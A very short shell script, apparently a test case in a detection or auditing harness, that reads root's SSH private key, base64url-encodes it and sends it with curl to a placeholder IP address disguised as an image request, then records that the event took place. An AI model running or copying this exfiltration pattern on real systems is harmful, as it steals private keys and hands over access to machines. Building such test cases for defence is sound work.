#!/bin/sh
. /opt/case/case.sh

text=$(openssl base64 -A -in /root/.ssh/id_rsa | tr '+/' '-_')
curl -s "http://203.0.113.10/p.gif?$text" >/dev/null
test -n "$text"
took_place
